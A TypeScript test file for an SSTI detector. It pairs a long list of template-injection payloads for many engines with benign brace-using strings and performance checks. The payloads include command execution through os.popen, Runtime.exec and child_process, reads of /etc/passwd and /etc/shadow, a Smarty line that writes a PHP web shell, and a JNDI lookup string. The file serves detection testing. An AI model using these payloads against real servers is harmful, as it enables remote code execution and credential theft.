import { test } from 'node:test'
import assert from 'node:assert/strict'
import { analyzeSsti } from '../../src/detection/ssti/analyzer.js'
import { surest } from './support.js'

const detect = (value: string) => surest(analyzeSsti, value)

const attacks: [string, number][] = [
  // server-side includes
  ['<!--#exec cmd="cat /etc/hosts" -->', 0.95],
  ['<!--#include virtual="/etc/shadow"-->', 0.95],
  ['<!-- #printenv -->', 0.85],
  // arithmetic probes, one per engine family
  ['{{7*7}}', 0.9],
  ["{{7*'7'}}", 0.9],
  ['${7*7}', 0.9],
  ['#{7*7}', 0.9],
  ['*{1*1}', 0.9],
  ['<%= 7 * 7 %>', 0.9],
  ['@(1+2)', 0.9],
  ['[[5*5]]', 0.9],
  ['${{7*7}}', 0.9],
  ['%7B%7B7*7%7D%7D', 0.9],
  ["aaaa' #{1*1} 'bbb", 0.9],
  // Jinja2 / Twig object walks
  ['{{config}}', 0.85],
  ['{{ config.items() }}', 0.85],
  ['{{self}}', 0.85],
  ["{{''.__class__.__mro__[2].__subclasses__()}}", 0.95],
  ["{{config.__class__.__init__.__globals__['os'].popen('id').read()}}", 0.95],
  ['{{request|attr("__class__")}}', 0.95],
  ["{{request|attr(['_'*2,'class','_'*2]|join)}}", 0.95],
  ["{{['id']|filter('system')}}", 0.95],
  ['{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}', 0.95],
  ['{{cycler.__init__.__globals__.os}}', 0.95],
  ['{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}', 0.95],
  ["{% import os %}{{ os.system('id') }}", 0.85],
  ["{% include '/etc/passwd' %}", 0.85],
  // statement blocks over constants the sender chose (a probe for the engine)
  ['{% For c in [1,2,3]%} {{c, c, c}} {% endfor%}', 0.85],
  ['{% if 7*7 == 49 %}vulnerable{% endif %}', 0.85],
  ['{% set x = 7*7 %}{{ x }}', 0.85],
  ['{%- if 1 -%}yes{%- endif -%}', 0.85],
  ['{{dump(app)}}', 0.85],
  ["{{'a'.toUpperCase()}}", 0.8],
  // Freemarker
  ['<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}', 0.95],
  ["[#assign ex = 'freemarker.template.utility.Execute'?new()]${ ex('id')}", 0.95],
  ['${"freemarker.template.utility.Execute"?new()("id")}', 0.95],
  ['<#assign x = 1>', 0.85],
  // Velocity
  ['#set($x = $class.inspect("java.lang.Runtime").type.getRuntime().exec("id"))', 0.95],
  ['#set($str=$class.inspect("java.lang.String").type)', 0.95],
  // ERB / JSP
  ["<%= File.open('/etc/passwd').read %>", 0.95],
  ['<%= `id` %>', 0.95],
  ['<%= system("id") %>', 0.95],
  // Spring / Java EL, Thymeleaf
  ['${T(java.lang.Runtime).getRuntime().exec("id")}', 0.95],
  ['${T(java.lang.System).getenv()}', 0.95],
  ['#{T(java.lang.Runtime).getRuntime().exec("id")}', 0.95],
  ['*{T(java.lang.Runtime).getRuntime().exec("id")}', 0.95],
  ['${class.getClassLoader()}', 0.95],
  ['__${T(java.lang.Runtime).getRuntime().exec("id")}__::.x', 0.95],
  ['__${7*7}__', 0.9],
  ["${''.getClass().forName('java.lang.Runtime')}", 0.95],
  // Smarty
  ['{php}echo `id`;{/php}', 0.95],
  ["{system('id')}", 0.95],
  ['{$smarty.version}', 0.9],
  ['{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,"<?php passthru($_GET[\'cmd\']); ?>",self::clearConfig())}', 0.95],
  // Mako, Pug, Handlebars, Node
  ['${self.module.cache.util.os.system("id")}', 0.95],
  ['<%\nimport os\nx=os.popen("id").read()\n%>${x}', 0.95],
  ["#{global.process.mainModule.require('child_process').execSync('id')}", 0.95],
  ['{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.push (lookup string.sub "constructor")}}{{/with}}{{/with}}{{/with}}', 0.95],
  ["{{constructor.constructor('return process')()}}", 0.95],
  // truncated: no closing delimiter
  ["{{''.__class__.__mro__[1].__subclasses__()", 0.9],
]

// Ordinary values that use braces: must stay below the default blocking threshold.
const benign = [
  '<!-- header --><h1>Hi</h1>',
  '<!--#1 seller-->',
  '{{name}}',
  'Hello {{ user.first_name }}!',
  '{{ price | currency }}',
  'price: ${amount}',
  'Total: ${ total }',
  '${HOME}/bin',
  'export PATH=${PATH}:/usr/local/bin',
  '${VAR:-default}',
  '{"a": {"b": 1}}',
  '[[1,2],[3,4]]',
  '[{"id":1},{"id":2}]',
  'a { color: red } .b{margin:0}',
  '# Title\n\n**bold** and *italic* and `code`',
  'Ruby: "Hello #{name}"',
  '`${a} and ${b}`',
  'email me @ work',
  'call me at (555) 010-0199',
  'user@(example).com',
  'cost is $5 {approx}',
  '50% off <strong>today</strong>',
  '{% raw %}',
  'see {{ site.url }}/about',
  '#{user.id}',
  '*{title}',
  '@{/path/to/page}',
  '<% if logged_in %>',
  'if (a) { b() }',
  'function f() { return {a: 1} }',
  '{{#each items}}{{this}}{{/each}}',
  'x = {{y}}',
  '{$var}',
  '${jndi:ldap://example.com/a}',
  'Use ${ to start a variable, e.g. `${name}`',
  'Wrap it in {{ and }} like `{{ title }}`',
  '[[Main Page]]',
  '[[Page (disambiguation)]]',
  '<%= title %>',
  '10*{5}',
  '2 * 3 = 6',
  '{{ 2024 }}',
  '#set up the printer',
  '<#> comment',
  // template logic over the template's own variables (e-mail and CMS template editors)
  '{% for item in order.items %}{{ item.name }} x {{ item.qty }}{% endfor %}',
  '{% if user.plan == "pro" %}Pro{% endif %}',
  '{% set title = "Welcome" %}',
  '{% if items|length > 0 %}{{ items|length }} items{% endif %}',
  '{% for i in range(3) %}*{% endfor %}',
]

test('SSTI: template expressions that compute or reach objects are found', () => {
  const failures: string[] = []
  for (const [value, confidence] of attacks) {
    const f = detect(value)
    if (f === null || f.confidence < confidence) failures.push(`${value}: ${f?.rule} ${f?.confidence}`)
  }
  assert.deepEqual(failures, [])
})

test('SSTI: plain variables, JSON, CSS, markdown and shell stay below the blocking threshold', () => {
  const failures: string[] = []
  for (const value of benign) {
    const f = detect(value)
    if (f !== null && f.confidence >= 0.8) failures.push(`${value}: ${f.rule} ${f.confidence}`)
  }
  assert.deepEqual(failures, [])
  assert.equal(detect('{{name}}'), null)
  assert.equal(detect('price: ${amount}'), null)
})

test('SSTI: a method call in a JavaScript template literal is only suspicious', () => {
  const f = detect('`Hello ${name.toUpperCase()}`')
  assert.ok(f !== null && f.confidence < 0.8)
})

test('SSTI analysis stays linear on long adversarial input', () => {
  for (const v of [
    '{{'.repeat(50_000),
    '${'.repeat(50_000),
    '<%'.repeat(50_000),
    '{{a'.repeat(30_000) + '}}',
    '@('.repeat(50_000),
    '{{7*7}'.repeat(20_000),
    '{% for ' + 'a'.repeat(200_000),
    '{% for ' + 'a '.repeat(100_000) + '%}',
    '{% if ' + '1'.repeat(200_000) + ' %}',
    '{% if ' + "'".repeat(100_000) + ' %}',
    '{{' + 'a.'.repeat(100_000) + '!',
    '${' + ' '.repeat(200_000) + 'x',
    '<%=' + '1*'.repeat(100_000),
  ]) {
    const t = performance.now()
    analyzeSsti(v)
    assert.ok(performance.now() - t < 200, `${v.slice(0, 12)}: ${performance.now() - t} ms`)
  }
})
